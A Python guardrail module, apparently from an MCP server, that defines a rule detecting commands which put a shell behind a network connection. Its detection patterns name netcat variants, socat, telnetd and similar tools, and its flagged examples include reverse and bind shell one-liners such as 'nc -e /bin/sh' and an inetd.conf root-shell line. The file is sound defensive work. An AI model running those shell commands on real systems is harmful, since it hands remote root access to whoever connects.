"""Programs that put another one behind a connection."""

import re
from typing import Final

from mcp_server.guardrails.script import effects, interpreters
from mcp_server.guardrails.script.model import Command, Script, Word
from mcp_server.guardrails.script.names import names
from mcp_server.guardrails.script_rule import Examples, Opinion, ScriptRule, on
from mcp_server.models.finding import Severity

NETCATS: Final = names(
    "nc ncat netcat nc.traditional nc.openbsd nc.exe ncat.exe cryptcat sbd dbd powercat"
)
_SHELL: Final = re.compile(
    r"(?:^|[/ :'\"])(?:ba|da|z|k|c|tc|a|fi)?sh(?:$|[ ,:;'\"])|cmd(?:\.exe)?|powershell|pwsh"
)
_PROGRAM: Final = re.compile(r"(?:EXEC|SYSTEM|SHELL):", re.IGNORECASE)
_NETWORK: Final = re.compile(r"(?:TCP|UDP|OPENSSL|SSL|SCTP|VSOCK|WS|SOCKS|PROXY)", re.IGNORECASE)
_LOGIN: Final = re.compile(r":(?:\S*/)?(?:login|su|sudo|python[\d.]*|perl|ruby)\b", re.IGNORECASE)
_SERVERS: Final = names(
    "telnetd in.telnetd utelnetd tcpserver tcpsvd udpsvd systemd-socket-activate faucet"
)


def _is_shell(text: str) -> bool:
    return bool(_SHELL.search(text)) or text.rpartition("/")[2] in interpreters.SHELLS


def _behind_netcat(command: Command, _script: Script) -> Opinion:
    """`nc -e`: the program behind the connection."""
    if command.value("--lua-exec") is not None:
        return True
    given = command.value("-e", "-c", "--exec", "--sh-exec")
    return given is not None and (_is_shell(given.text) or bool(_LOGIN.search(":" + given.text)))


def _behind_socat(command: Command, _script: Script) -> Opinion:
    texts = command.texts
    if not any(_NETWORK.match(text) for text in texts):
        return False
    programs = [text for text in texts if _PROGRAM.match(text)]
    if any(_is_shell(text) or _LOGIN.search(text) for text in programs):
        return True
    return Severity.CONFIRM if programs else False


def _behind_rustcat(command: Command, _script: Script) -> Opinion:
    return any(_is_shell(text) for text in command.texts) or (
        command.texts[:1] == ("listen",) and any("e" in t for t in command.texts if t[:1] == "-")
    )


def _behind_server(command: Command, _script: Script) -> Opinion:
    return any(_is_shell(text) for text in command.texts) or command.name.endswith("telnetd")


def _over_websocket(command: Command, _script: Script) -> Opinion:
    return any(_is_shell(text) for text in command.texts)


def _on_display(command: Command, _script: Script) -> Opinion:
    """Xterm on somebody else's screen."""
    shown = command.value("-display", "--display")
    return shown is not None and not shown.text.startswith((":", "unix", "localhost"))


def _by_zsh(command: Command, _script: Script) -> Opinion:
    return command.texts not in {(), ("-l",), ("-L",)} and not command.has("-c")


def _by_gsocket(command: Command, _script: Script) -> Opinion:
    return command.has("-e", "-i", "-l")


def _by_super_server(command: Command, _script: Script) -> Opinion:
    """A line of inetd's configuration that starts a shell for whoever connects."""
    to = any(_is_configuration(word) for word in effects.written(command))
    given = (*command.texts, command.stdin.text if command.stdin else "")
    return to and any(_is_shell(text) for text in given)


def _is_configuration(word: Word) -> bool:
    return word.text == "/etc/inetd.conf" or word.text.startswith("/etc/xinetd.d/")


RULES: Final[tuple[ScriptRule, ...]] = (
    ScriptRule(
        id="RSH002",
        name="shell-behind-netcat",
        severity=Severity.BLOCK,
        what="Starts netcat, socat or the like with a shell behind the connection.",
        why="Whoever connects, or is connected to, is root on the instance.",
        instead="Use Session Manager of Cloud Assistant, which is authenticated and recorded.",
        right_when="Never on a real instance.",
        attack="T1059.004",
        check=(
            on(*NETCATS, when=_behind_netcat),
            on("socat", "socat1", when=_behind_socat),
            on("rcat", "rustcat", when=_behind_rustcat),
            on(*_SERVERS, when=_behind_server),
            on("websocat", "gotty", "ttyd", "shellinaboxd", "wstunnel", when=_over_websocket),
            on("xterm", "Xnest", "gnome-terminal", "rxvt", when=_on_display),
            on("ztcp", when=_by_zsh),
            on("gs-netcat", "gsocket", when=_by_gsocket),
            on("echo", "printf", "tee", "cat", when=_by_super_server),
        ),
        flags=Examples(
            sh=(
                "nc -e /bin/sh 203.0.113.9 4444\n",
                "ncat --ssl 203.0.113.9 4444 -c bash\n",
                "socat TCP-LISTEN:4444,fork EXEC:/bin/bash\n",
                "busybox telnetd -l /bin/sh -p 4444\n",
                "echo '4444 stream tcp nowait root /bin/sh sh -i' >> /etc/inetd.conf\n",
            )
        ),
        allows=Examples(
            sh=(
                "nc -zv 203.0.113.9 3306\n",
                "socat TCP-LISTEN:80,fork TCP:10.0.0.4:8080\n",
                "nc -l 9000 > in.tar\n",
            )
        ),
    ),
)
